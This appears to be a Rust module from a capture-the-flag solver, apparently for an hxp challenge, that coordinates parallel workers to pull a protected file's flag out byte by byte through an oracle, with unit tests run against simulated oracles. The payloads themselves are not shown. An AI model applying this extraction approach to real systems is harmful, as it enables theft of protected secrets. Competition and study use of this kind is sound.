use std::sync::Arc;

use tokio::task::JoinSet;

use crate::oracle::Oracle;
use crate::payload::PayloadCache;

use super::buffer::SecretBuffer;
use super::charset::discover_byte;
use super::length::{discover_length, DEFAULT_MAX_LENGTH};
use super::{Alphabet, ExtractError};

#[derive(Debug, Clone)]
pub struct ExtractOptions {
    pub alphabet: Alphabet,
    pub max_length: usize,
    /// Scan the whole alphabet per index and fail on a second crossing.
    pub strict: bool,
}

impl Default for ExtractOptions {
    fn default() -> Self {
        Self {
            alphabet: Alphabet::printable(),
            max_length: DEFAULT_MAX_LENGTH,
            strict: false,
        }
    }
}

/// A recovered secret.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Extraction {
    /// The string literal, delimiters included.
    pub literal: String,
    /// `prefix` followed by the literal, i.e. the protected file's content.
    pub flag: String,
}

/// One extraction run against one oracle.
pub struct Session {
    oracle: Arc<dyn Oracle>,
    payloads: Arc<PayloadCache>,
    options: ExtractOptions,
}

impl Session {
    pub fn new(oracle: Arc<dyn Oracle>, payloads: Arc<PayloadCache>, options: ExtractOptions) -> Self {
        Self {
            oracle,
            payloads,
            options,
        }
    }

    /// Discover the length, then every interior byte.
    pub async fn run(&self) -> Result<Extraction, ExtractError> {
        let length = discover_length(
            self.oracle.as_ref(),
            &self.payloads,
            self.options.max_length,
        )
        .await?;
        self.recover(length).await
    }

    /// Recover a literal of known `length`.
    ///
    /// One worker per interior index; the buffer is only read back once every
    /// worker has terminated. The first worker error fails the run.
    pub async fn recover(&self, length: usize) -> Result<Extraction, ExtractError> {
        let (buffer, slots) = SecretBuffer::partition(length)?;
        tracing::info!(length, workers = slots.len(), "starting byte discovery");

        let mut workers = JoinSet::new();
        for slot in slots {
            let oracle = Arc::clone(&self.oracle);
            let payloads = Arc::clone(&self.payloads);
            let alphabet = self.options.alphabet.clone();
            let strict = self.options.strict;
            workers.spawn(async move {
                let index = slot.index();
                let byte =
                    discover_byte(oracle.as_ref(), &payloads, &alphabet, index, strict).await?;
                tracing::info!(index, byte = %char::from(byte), "byte recovered");
                slot.fill(byte);
                Ok::<(), ExtractError>(())
            });
        }

        let mut first_error = None;
        while let Some(joined) = workers.join_next().await {
            let result = joined.unwrap_or_else(|e| Err(ExtractError::WorkerPanicked(e.to_string())));
            if let Err(e) = result {
                tracing::warn!(error = %e, "worker failed");
                first_error.get_or_insert(e);
            }
        }
        if let Some(e) = first_error {
            return Err(e);
        }

        let literal = String::from_utf8_lossy(&buffer.into_secret()?).into_owned();
        let flag = format!("{}{}", self.payloads.templates().prefix(), literal);
        tracing::info!(%flag, "secret recovered");
        Ok(Extraction { literal, flag })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::extract::testing::{SimulatedOracle, ViolatingOracle};
    use crate::oracle::OracleError;
    use crate::payload::Templates;

    fn session(oracle: impl Oracle + 'static, options: ExtractOptions) -> Session {
        Session::new(
            Arc::new(oracle),
            Arc::new(PayloadCache::new(Templates::default())),
            options,
        )
    }

    #[tokio::test]
    async fn recovers_short_flag() {
        let oracle = SimulatedOracle::from_protected("hxp", "hxp{a}\n");
        let extraction = session(oracle, ExtractOptions::default()).run().await.unwrap();
        assert_eq!(extraction.literal, "{a}");
        assert_eq!(extraction.flag, "hxp{a}");
    }

    #[tokio::test]
    async fn repeated_runs_are_identical() {
        let session = session(SimulatedOracle::new("{abcd}"), ExtractOptions::default());
        let first = session.recover(6).await.unwrap();
        for _ in 0..3 {
            assert_eq!(session.recover(6).await.unwrap(), first);
        }
        assert_eq!(first.literal, "{abcd}");
    }

    #[tokio::test]
    async fn recovers_mixed_alphabet() {
        let literal = "{Th1s_is-N0t_a_fl4g!}";
        let extraction = session(SimulatedOracle::new(literal), ExtractOptions::default())
            .run()
            .await
            .unwrap();
        assert_eq!(extraction.literal, literal);
    }

    #[tokio::test]
    async fn delimiters_only_needs_no_workers() {
        let extraction = session(SimulatedOracle::new("{}"), ExtractOptions::default())
            .run()
            .await
            .unwrap();
        assert_eq!(extraction.flag, "hxp{}");
    }

    #[tokio::test]
    async fn exhausted_index_fails_the_session() {
        let err = session(SimulatedOracle::new("{ab c}"), ExtractOptions::default())
            .run()
            .await
            .unwrap_err();
        assert!(matches!(err, ExtractError::AlphabetExhausted { index: 3 }));
    }

    #[tokio::test]
    async fn violation_in_one_worker_fails_the_session() {
        let oracle = ViolatingOracle {
            inner: SimulatedOracle::new("{abc}"),
            index: 2,
        };
        let err = session(oracle, ExtractOptions::default())
            .run()
            .await
            .unwrap_err();
        assert!(matches!(
            err,
            ExtractError::Oracle(OracleError::ProtocolViolation(_))
        ));
    }

    #[tokio::test]
    async fn too_short_literal_is_rejected() {
        let err = session(SimulatedOracle::new("{"), ExtractOptions::default())
            .run()
            .await
            .unwrap_err();
        assert!(matches!(err, ExtractError::TooShort(1)));
    }
}
